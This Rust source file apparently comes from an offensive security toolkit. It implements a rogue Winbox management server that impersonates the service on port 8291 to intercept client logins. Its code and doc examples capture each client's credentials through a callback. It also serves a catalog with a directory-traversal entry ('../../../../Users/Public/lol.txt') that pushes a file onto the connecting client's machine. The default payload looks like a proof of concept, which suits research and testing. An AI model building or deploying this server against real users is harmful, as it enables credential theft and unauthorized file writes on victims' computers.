//! Winbox MITM server.
//!
//! Accepts client connections and impersonates the management service:
//! each accepted connection gets its own [`Session`] driven on its own
//! task, with no state shared between connections. A failed handshake
//! terminates that session only; the listener keeps accepting.
//!
//! # Example
//!
//! ```rust,no_run
//! use krait_proto::winbox::{MitmConfig, MitmServer};
//! use std::sync::Arc;
//!
//! # #[tokio::main]
//! # async fn main() -> Result<(), Box<dyn std::error::Error>> {
//! let mut config = MitmConfig::default();
//! config.serve_catalog = true;
//!
//! let mut server = MitmServer::bind_with_config("0.0.0.0:8291", config).await?;
//! server.set_credential_callback(Arc::new(|credential| {
//!     println!("captured {}", credential.username);
//! }));
//!
//! server.serve().await?;
//! # Ok(())
//! # }
//! ```

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use tokio::net::TcpListener;
use tracing::{error, info};

use krait_platform::{KraitError, KraitResult};

use super::catalog::{Catalog, FileDrop};
use super::message::Credential;
use super::session::Session;

/// Port the management service listens on.
pub const DEFAULT_PORT: u16 = 8291;

/// Callback invoked with every captured credential.
pub type CredentialCallback = Arc<dyn Fn(&Credential) + Send + Sync>;

/// Server configuration.
#[derive(Debug, Clone)]
pub struct MitmConfig {
    /// Per-step read timeout. Bounds how long a silent peer can hold a
    /// session open.
    pub read_timeout: Duration,
    /// Whether to continue past login into the listing and file-transfer
    /// steps. When false the session ends after the login acknowledgement.
    pub serve_catalog: bool,
    /// Catalog served to listing requests.
    pub catalog: Catalog,
    /// File pushed when the client downloads the traversal entry.
    pub file_drop: FileDrop,
}

impl Default for MitmConfig {
    fn default() -> Self {
        Self {
            read_timeout: Duration::from_secs(30),
            serve_catalog: false,
            catalog: Catalog::stock_6_39_3(
                "../../../../../../../../../Users/Public/lol.txt",
            ),
            file_drop: FileDrop::hello_drop(),
        }
    }
}

/// The MITM server.
pub struct MitmServer {
    listener: TcpListener,
    config: Arc<MitmConfig>,
    credential_callback: Option<CredentialCallback>,
}

impl MitmServer {
    /// Binds with the default configuration.
    ///
    /// # Example
    ///
    /// ```rust,no_run
    /// use krait_proto::winbox::MitmServer;
    ///
    /// # #[tokio::main]
    /// # async fn main() -> Result<(), Box<dyn std::error::Error>> {
    /// let server = MitmServer::bind("0.0.0.0:8291").await?;
    /// # Ok(())
    /// # }
    /// ```
    pub async fn bind(addr: &str) -> KraitResult<Self> {
        Self::bind_with_config(addr, MitmConfig::default()).await
    }

    /// Binds with a custom configuration.
    pub async fn bind_with_config(addr: &str, config: MitmConfig) -> KraitResult<Self> {
        let listener = TcpListener::bind(addr).await.map_err(KraitError::Io)?;
        Ok(Self {
            listener,
            config: Arc::new(config),
            credential_callback: None,
        })
    }

    /// Sets the callback invoked with each captured credential.
    pub fn set_credential_callback(&mut self, callback: CredentialCallback) {
        self.credential_callback = Some(callback);
    }

    /// Returns the local address the server is bound to.
    pub fn local_addr(&self) -> std::io::Result<SocketAddr> {
        self.listener.local_addr()
    }

    /// Accepts one client connection.
    ///
    /// Returns a session ready to be driven with [`Session::run`].
    pub async fn accept(&self) -> KraitResult<Session> {
        let (stream, peer_addr) = self.listener.accept().await.map_err(KraitError::Io)?;
        Ok(Session::new(
            stream,
            peer_addr,
            self.config.clone(),
            self.credential_callback.clone(),
        ))
    }

    /// Accepts connections forever, driving each session on its own task.
    ///
    /// Individual session failures are logged by the session itself and
    /// never stop the listener.
    pub async fn serve(&self) -> KraitResult<()> {
        info!(addr = %self.local_addr().map_err(KraitError::Io)?, "listening");
        loop {
            match self.accept().await {
                Ok(session) => {
                    info!(peer = %session.peer_addr(), "accepted connection");
                    tokio::spawn(async move {
                        let _ = session.run().await;
                    });
                }
                Err(err) => {
                    error!(error = %err, "failed to accept connection");
                }
            }
        }
    }
}
